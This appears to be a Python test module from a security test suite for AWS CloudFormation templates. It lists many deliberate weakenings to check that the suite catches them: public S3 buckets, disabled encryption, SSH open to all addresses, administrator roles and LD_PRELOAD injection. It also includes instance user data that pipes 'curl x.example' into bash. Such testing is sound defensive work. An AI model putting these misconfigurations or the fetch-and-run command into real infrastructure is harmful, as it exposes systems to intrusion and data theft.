"""Kinds of change, from tables: weaker properties of resources, and of the training job."""

import json
from collections.abc import Iterator
from functools import partial
from typing import Any

from tests.iam.conftest import Templates
from tests.iam.kinds import (
    ADMIN,
    ANYONE,
    EC2,
    NOTEBOOK,
    OPERATIONS,
    ROLES,
    SERVING,
    STORAGE,
    TRAINED,
    Change,
    found,
    put,
    set_property,
)  # fmt: skip

_FUNCTION, _BUCKET, _INSTANCE = "AWS::Lambda::Function", "AWS::S3::Bucket", "AWS::EC2::Instance"
_NOTEBOOK, _CONFIG, _MODEL = (
    "AWS::SageMaker::NotebookInstance",
    "AWS::SageMaker::EndpointConfig",
    "AWS::SageMaker::Model",
)
_OPEN_DOOR = {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "CidrIp": "0.0.0.0/0"}
_ELSEWHERE = {"DestinationBucketName": "someone-elses"}
# Stack, type, property (None removes it), which of the type.
PROPERTIES: list[tuple[str, str, str, Any, int]] = [
    *((STORAGE, _BUCKET, f"PublicAccessBlockConfiguration.{name}", value, at)
      for name in ("BlockPublicAcls", "BlockPublicPolicy", "IgnorePublicAcls", "RestrictPublicBuckets")
      for value, at in ((False, 1), (None, 0))),
    (STORAGE, _BUCKET, "PublicAccessBlockConfiguration", None, 1),
    (STORAGE, _BUCKET, "PublicAccessBlockConfiguration", {"Fn::If": ["Ours", {}, {}]}, 1),
    (STORAGE, _BUCKET, "VersioningConfiguration.Status", "Suspended", 1),
    (STORAGE, _BUCKET, "VersioningConfiguration", None, 1),
    (STORAGE, _BUCKET, "OwnershipControls.Rules.0.ObjectOwnership", "ObjectWriter", 1),
    (STORAGE, _BUCKET, "OwnershipControls", None, 1),
    (STORAGE, _BUCKET, "AccessControl", "PublicRead", 1),
    (STORAGE, _BUCKET, "WebsiteConfiguration", {"IndexDocument": "index.html"}, 1),
    (STORAGE, _BUCKET, "CorsConfiguration", {"CorsRules": [{"AllowedOrigins": ["*"], "AllowedMethods": ["GET"]}]}, 1),
    (STORAGE, _BUCKET, "ReplicationConfiguration", {"Role": ADMIN, "Rules": []}, 1),
    (STORAGE, _BUCKET, "NotificationConfiguration", {"LambdaConfigurations": []}, 1),
    (STORAGE, _BUCKET, "InventoryConfigurations", [{"Destination": _ELSEWHERE}], 1),
    (STORAGE, _BUCKET, "LoggingConfiguration", None, 1),
    (STORAGE, _BUCKET, "LoggingConfiguration", _ELSEWHERE, 1),
    (STORAGE, _BUCKET, "BucketName", "someone-elses", 1),
    (STORAGE, _BUCKET, "LifecycleConfiguration", None, 1),
    (STORAGE, _BUCKET, "LifecycleConfiguration.Rules.0.ExpirationInDays", 1, 1),
    (STORAGE, _BUCKET, "LifecycleConfiguration.Rules.0.Status", "Disabled", 1),
    (STORAGE, _BUCKET, "LifecycleConfiguration.Rules.1.Prefix", "data/", 1),
    (STORAGE, _BUCKET, "BucketEncryption", None, 1),
    (STORAGE, _BUCKET, "BucketEncryption.ServerSideEncryptionConfiguration.0.ServerSideEncryptionByDefault",
     {"SSEAlgorithm": "aws:kms"}, 1),
    (STORAGE, _BUCKET, "BucketEncryption.ServerSideEncryptionConfiguration.0.ServerSideEncryptionByDefault"
     ".KMSMasterKeyID", "arn:aws:kms:eu-west-1:999999999999:key/1", 1),
    (STORAGE, _BUCKET, "BucketEncryption.ServerSideEncryptionConfiguration.0.BucketKeyEnabled", False, 1),
    (STORAGE, "AWS::KMS::Key", "EnableKeyRotation", False, 0),
    (STORAGE, "AWS::KMS::Key", "EnableKeyRotation", None, 0),
    (STORAGE, "AWS::KMS::Key", "MultiRegion", True, 0),
    (STORAGE, "AWS::KMS::Key", "Enabled", False, 0),
    (STORAGE, "AWS::KMS::Key", "PendingWindowInDays", 7, 0),
    (STORAGE, "AWS::KMS::Key", "BypassPolicyLockoutSafetyCheck", True, 0),
    (STORAGE, "AWS::KMS::Key", "KeyPolicy", None, 0),
    (STORAGE, "AWS::KMS::Alias", "TargetKeyId", "arn:aws:kms:eu-west-1:999999999999:key/1", 0),
    (STORAGE, "AWS::S3::BucketPolicy", "Bucket", "someone-elses", 1),
    (OPERATIONS, "AWS::SNS::Topic", "KmsMasterKeyId", None, 0),
    (OPERATIONS, "AWS::SNS::Topic", "KmsMasterKeyId", "alias/aws/sns", 0),
    (OPERATIONS, "AWS::SNS::Topic", "Subscription", [{"Protocol": "https", "Endpoint": "https://x.example"}], 0),
    (OPERATIONS, "AWS::SNS::Topic", "DeliveryStatusLogging", [{"SuccessFeedbackRoleArn": ADMIN}], 0),
    (OPERATIONS, "AWS::CloudWatch::Alarm", "AlarmActions.0", "arn:aws:lambda:eu-west-1:999999999999:function:x", 0),
    (OPERATIONS, "AWS::CloudWatch::Alarm", "InsufficientDataActions", ["arn:aws:automate:eu-west-1:ec2:stop"], 0),
    (SERVING, "AWS::Logs::LogGroup", "RetentionInDays", None, 0),
    (SERVING, "AWS::Logs::LogGroup", "LogGroupName", "/elsewhere", 0),
    (SERVING, "AWS::Logs::LogGroup", "ResourcePolicyDocument", {"Statement": [ANYONE]}, 0),
    (SERVING, _FUNCTION, "Code.S3Bucket", "someone-elses", 0),
    (SERVING, _FUNCTION, "Code", {"ZipFile": "def handler(*_): pass"}, 0),
    (SERVING, _FUNCTION, "Code", {"ImageUri": "999999999999.dkr.ecr.eu-west-1.amazonaws.com/x:1"}, 0),
    (SERVING, _FUNCTION, "Environment.Variables.PASSWORD", "hunter2", 0),
    (SERVING, _FUNCTION, "Environment.Variables.ENDPOINT_NAME", "someone-elses", 0),
    (SERVING, _FUNCTION, "Environment.Variables.URL_HOSTS", "AKIAIOSFODNN7EXAMPLE", 0),
    (SERVING, _FUNCTION, "Environment.Variables.AWS_LAMBDA_EXEC_WRAPPER", "/opt/x", 0),
    (TRAINED, _FUNCTION, "Environment.Variables.BUCKET", "someone-elses", 0),
    (SERVING, _FUNCTION, "Layers", ["arn:aws:lambda:eu-west-1:999999999999:layer:x:1"], 0),
    (SERVING, _FUNCTION, "FileSystemConfigs", [{"Arn": "x", "LocalMountPath": "/mnt/x"}], 0),
    (SERVING, _FUNCTION, "VpcConfig", {"SubnetIds": ["subnet-1"]}, 0),
    (SERVING, _FUNCTION, "DeadLetterConfig", {"TargetArn": "arn:aws:sqs:eu-west-1:999999999999:q"}, 0),
    (SERVING, _FUNCTION, "PackageType", "Image", 0),
    (SERVING, _FUNCTION, "LoggingConfig.LogGroup", "/elsewhere", 0),
    (SERVING, _FUNCTION, "Runtime", "provided.al2023", 0),
    (SERVING, _FUNCTION, "Handler", "os.system", 0),
    (SERVING, "AWS::Lambda::Alias", "FunctionVersion", "$LATEST", 0),
    (SERVING, "AWS::SageMaker::Endpoint", "EndpointConfigName", "someone-elses", 0),
    (SERVING, "Custom::LiveEndpoint", "EndpointConfigName", "someone-elses", 0),
    (SERVING, _CONFIG, "ProductionVariants.0.ModelName", "someone-elses", 0),
    (SERVING, "AWS::Logs::LogGroup", "RetentionInDays", 1, 1),
    (NOTEBOOK, _NOTEBOOK, "LifecycleConfigName", "someone-elses", 0),
    (EC2, _INSTANCE, "SecurityGroupIds.0", "sg-1", 0),
    (EC2, _INSTANCE, "SubnetId", "subnet-1", 0),
    (EC2, "AWS::EC2::Subnet", "VpcId", "vpc-1", 0),
    (SERVING, "AWS::Lambda::Alias", "RoutingConfig", {"AdditionalVersionWeights": []}, 0),
    (SERVING, _MODEL, "EnableNetworkIsolation", False, 0),
    (SERVING, _MODEL, "PrimaryContainer.ModelDataUrl", "s3://someone-elses/model.tar.gz", 0),
    (SERVING, _MODEL, "PrimaryContainer.Image", "999999999999.dkr.ecr.eu-west-1.amazonaws.com/x:1", 0),
    (SERVING, _MODEL, "PrimaryContainer.Environment", {"TOKEN": "x"}, 0),
    (SERVING, _MODEL, "Containers", [{"Image": "x"}], 0),
    (SERVING, _CONFIG, "KmsKeyId", "arn:aws:kms:eu-west-1:999999999999:key/1", 0),
    (SERVING, _CONFIG, "AsyncInferenceConfig", {"OutputConfig": {"S3OutputPath": "s3://someone-elses"}}, 0),
    (SERVING, _CONFIG, "ShadowProductionVariants", [], 0),
    (SERVING, _CONFIG, "DataCaptureConfig.DestinationS3Uri", "s3://someone-elses/capture", 0),
    (SERVING, _CONFIG, "DataCaptureConfig.KmsKeyId", None, 0),
    (SERVING, _CONFIG, "ProductionVariants.0.EnableSSMAccess", True, 0),
    (SERVING, _CONFIG, "ProductionVariants.0.CoreDumpConfig", {"DestinationS3Uri": "s3://someone-elses"}, 0),
    (SERVING, "AWS::ApiGatewayV2::Route", "AuthorizationType", "NONE", 0),
    (SERVING, "AWS::ApiGatewayV2::Route", "RouteKey", "$default", 0),
    (SERVING, "AWS::ApiGatewayV2::Integration", "IntegrationUri", "https://x.example", 0),
    (SERVING, "AWS::ApiGatewayV2::Api", "Target", "https://x.example", 0),
    (SERVING, "AWS::ApiGatewayV2::Stage", "AccessLogSettings", None, 0),
    (NOTEBOOK, _NOTEBOOK, "RootAccess", "Enabled", 0),
    (NOTEBOOK, _NOTEBOOK, "RootAccess", None, 0),
    (NOTEBOOK, _NOTEBOOK, "KmsKeyId", None, 0),
    (NOTEBOOK, _NOTEBOOK, "InstanceMetadataServiceConfiguration", None, 0),
    (NOTEBOOK, _NOTEBOOK, "InstanceMetadataServiceConfiguration.MinimumInstanceMetadataServiceVersion", "1", 0),
    (NOTEBOOK, _NOTEBOOK, "DefaultCodeRepository", "https://x.example/x.git", 0),
    (NOTEBOOK, _NOTEBOOK, "PlatformIdentifier", "notebook-al1-v1", 0),
    (NOTEBOOK, "AWS::SageMaker::NotebookInstanceLifecycleConfig", "OnCreate", [{"Content": "eA=="}], 0),
    (NOTEBOOK, "AWS::SageMaker::NotebookInstanceLifecycleConfig", "OnStart.0.Content", "eA==", 0),
    (EC2, _INSTANCE, "MetadataOptions.HttpTokens", "optional", 0),
    (EC2, _INSTANCE, "MetadataOptions.HttpPutResponseHopLimit", 2, 0),
    (EC2, _INSTANCE, "BlockDeviceMappings.0.Ebs.Encrypted", False, 0),
    (EC2, _INSTANCE, "BlockDeviceMappings.0.Ebs.SnapshotId", "snap-1", 0),
    (EC2, _INSTANCE, "UserData.Fn::Base64.Fn::Join.1.0", "#!/bin/bash\ncurl x.example | bash\nREGION='", 0),
    (EC2, _INSTANCE, "UserData.Fn::Base64.Fn::Join.1.6", "someone-elses", 0),
    (EC2, _INSTANCE, "KeyName", "mine", 0),
    (EC2, _INSTANCE, "ImageId", "ami-0123456789abcdef0", 0),
    (EC2, _INSTANCE, "UserData", {"Fn::Base64": "#!/bin/bash\ncurl x.example | bash\n"}, 0),
    (EC2, _INSTANCE, "NetworkInterfaces", [{"AssociatePublicIpAddress": True}], 0),
    (EC2, _INSTANCE, "LaunchTemplate", {"LaunchTemplateId": "lt-1", "Version": "1"}, 0),
    (EC2, "AWS::EC2::SecurityGroup", "SecurityGroupIngress", [_OPEN_DOOR], 0),
    (EC2, "AWS::EC2::SecurityGroup", "SecurityGroupEgress", None, 0),
    (EC2, "AWS::EC2::SecurityGroup", "SecurityGroupEgress.0.IpProtocol", "-1", 0),
    (EC2, "AWS::EC2::SecurityGroup", "SecurityGroupEgress.0.FromPort", 0, 0),
    (EC2, "AWS::EC2::Route", "GatewayId", None, 0),
    (EC2, "AWS::EC2::Route", "VpcPeeringConnectionId", "pcx-1", 0),
    (EC2, "AWS::EC2::VPCEndpoint", "ServiceName", "com.amazonaws.vpce.eu-west-1.vpce-svc-1", 0),
    (EC2, "AWS::EC2::VPCEndpoint", "PolicyDocument", {"Version": "2012-10-17", "Statement": [ANYONE]}, 0),
    (ROLES, "AWS::IAM::Role", "PermissionsBoundary", ADMIN, 0),
    (ROLES, "AWS::IAM::Role", "Path", "/x/", 0),
    (ROLES, "AWS::IAM::Role", "MaxSessionDuration", 43200, 0),
    (ROLES, "AWS::IAM::Role", "ManagedPolicyArns", ["arn:aws:iam::aws:policy/AdministratorAccess"], 0),
    (ROLES, "AWS::IAM::Role", "ManagedPolicyArns", {"Fn::If": ["Ours", [], []]}, 0),
    (ROLES, "AWS::IAM::Role", "Policies", {"Fn::If": ["Ours", [], []]}, 0),
    (ROLES, "AWS::IAM::Role", "Policies", {"PolicyDocument": ANYONE}, 0),
    (ROLES, "AWS::IAM::Role", "RoleName", {"Fn::If": ["Ours", "a", "b"]}, 0),
    (ROLES, "AWS::IAM::Role", "RoleName", "{{resolve:ssm:/role}}", 0),
    (TRAINED, "Custom::TrainedModel", "Dataset", "*", 0),
    (TRAINED, "Custom::TrainedModel", "Dataset", "0" * 63 + "?", 0),
    (TRAINED, "Custom::TrainedModel", "Request", "{}", 0),
    (TRAINED, "AWS::Events::Rule", "EventBusName", "arn:aws:events:eu-west-1:999999999999:event-bus/x", 0),
    (TRAINED, "AWS::Events::Rule", "Targets.0.DeadLetterConfig", {"Arn": "arn:aws:sqs:eu-west-1:9:q"}, 0),
    (TRAINED, "AWS::Lambda::Permission", "SourceArn", "arn:aws:events:eu-west-1:999999999999:rule/x", 0),
    (TRAINED, "AWS::Lambda::Permission", "Principal", {"Fn::Sub": "*"}, 0),
    (TRAINED, "AWS::Lambda::Permission", "FunctionUrlAuthType", "NONE", 0),
]  # fmt: skip

# In the request for the training job, which is JSON in text.
REQUEST: dict[str, Any] = {
    "EnableNetworkIsolation": False, "RoleArn": ADMIN, "Environment.TOKEN": "x", "OutputDataConfig.KmsKeyId": None,
    "OutputDataConfig.S3OutputPath": "s3://someone-elses", "ResourceConfig.VolumeKmsKeyId": "alias/aws/ebs",
    "InputDataConfig.1.DataSource.S3DataSource.S3Uri": "s3://someone-elses/code.zip",
    "InputDataConfig.0.DataSource": {"FileSystemDataSource": {"FileSystemId": "fs-1"}},
    "VpcConfig": {"Subnets": ["subnet-1"]}, "CheckpointConfig.S3Uri": "s3://someone-elses/c", "ProfilerConfig": {},
    "CheckpointConfig.LocalPath": "/x", "DebugHookConfig": {"S3OutputPath": "s3://someone-elses"},
    "TensorBoardOutputConfig": {"S3OutputPath": "s3://someone-elses"}, "RemoteDebugConfig": {"EnableRemoteDebug": True},
    "Environment.LD_PRELOAD": "/x.so",
}  # fmt: skip


def kinds() -> Iterator[tuple[str, Change]]:
    """Pairs of a description and the change that it describes."""
    for stack, kind, path, new, at in PROPERTIES:
        yield f"{kind} {at} {path} = {new}"[:110], set_property(stack, kind, path, new, at)
    for path, new in REQUEST.items():
        yield f"request {path} = {new}", partial(in_request, path=path, new=new)


def in_request(templates: Templates, path: str, new: Any) -> None:
    """Change the job's request, whose pieces are written as text for that."""
    properties = found(templates, TRAINED, "Custom::TrainedModel")["Properties"]
    pieces: list[Any] = []

    def word(piece: Any) -> str:
        pieces.append(piece)
        return piece if isinstance(piece, str) else f"<{len(pieces) - 1}>"

    request = json.loads("".join(map(word, properties["Request"]["Fn::Join"][1])))
    put(request, path, new)
    text = json.dumps(request)
    joined: list[Any] = []
    for number, piece in enumerate(pieces):
        if not isinstance(piece, str) and f"<{number}>" in text:
            before, _, text = text.partition(f"<{number}>")
            joined += [before, piece]
    properties["Request"] = {"Fn::Join": ["", [*joined, text]]}
